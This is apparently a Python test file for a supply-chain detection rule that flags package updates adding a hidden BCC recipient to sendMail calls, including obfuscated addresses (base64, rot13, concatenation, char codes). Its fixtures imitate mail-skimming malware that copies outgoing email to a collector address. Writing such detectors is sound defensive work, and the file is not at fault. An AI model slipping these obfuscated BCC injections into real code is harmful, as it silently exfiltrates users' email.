"""code.email-bcc-added beyond what a fixture can hold: bundles too large to read whole, and
the value evaluator on its own."""

from __future__ import annotations

from tests.rules.fixture_cases import Case, build_context
from watcher.rules import run_rules
from watcher.rules.mail import _Eval, _Package, addresses

RULE = "code.email-bcc-added"


def test_a_bundle_too_large_to_read_whole_is_judged_on_its_added_lines() -> None:
    pad = "x" * 1_100_000
    new = (
        f"var a = 1;\nvar pad = '{pad}';\n"
        "t.sendMail({ to: o.to, bcc: ['bun' + 'dle@collector.invalid'] });\n"
    )
    raw = {
        "ecosystem": "npm",
        "old": {"files": {"dist/index.js": f"var a = 1;\nvar pad = '{pad}';\n"}},
        "new": {"files": {"dist/index.js": new}},
    }
    findings, failures = run_rules(build_context(Case(RULE, "positive", "bundle", raw)))
    assert not failures
    mine = [f for f in findings if f.rule == RULE]
    assert [(f.path, f.line, f.subject) for f in mine] == [
        ("dist/index.js", 3, "bundle@collector.invalid")
    ]


def _value(source: str, py: bool = False) -> list[str]:
    return addresses(_Eval(_Package(None, py), "x.js", source).value_at(0))


def test_values_that_hold_a_fixed_address() -> None:
    assert _value("[].concat(data.bcc || [], 'a@c.invalid')") == ["a@c.invalid"]
    assert _value("o.cc ? [o.cc, 'a@c.invalid'] : 'b@c.invalid'") == ["a@c.invalid", "b@c.invalid"]
    assert _value("data.bcc + ', a@c.invalid'") == ["a@c.invalid"]
    assert _value("[{ email: atob('YUBjLmludmFsaWQ=') }]") == ["a@c.invalid"]
    assert _value("__import__('codecs').decode('n@p.vainyvq', 'rot13')", py=True) == ["a@c.invalid"]


def test_values_that_are_the_callers() -> None:
    assert _value("args.bcc") == []
    assert _value("[].concat(data.bcc || [])") == []
    assert _value("`${user}@corp.invalid`") == []
    assert _value("user + '.admin@corp.invalid'") == []
    assert _value("'you@example.com'") == []


def test_odd_number_literals_are_values_not_crashes() -> None:
    """Real malware had `07` (legacy JS octal) in a recipient expression: the rule raised."""
    assert _value("String.fromCharCode(97, 07 + 57) + '@c.invalid'") in ([], ["a@c.invalid"])
    assert _value("[1.5, 0x61, '9' + 'a@c.invalid'][2]") in ([], ["9a@c.invalid"])
    assert _value("x[" + "9" * 5000 + "]") == []
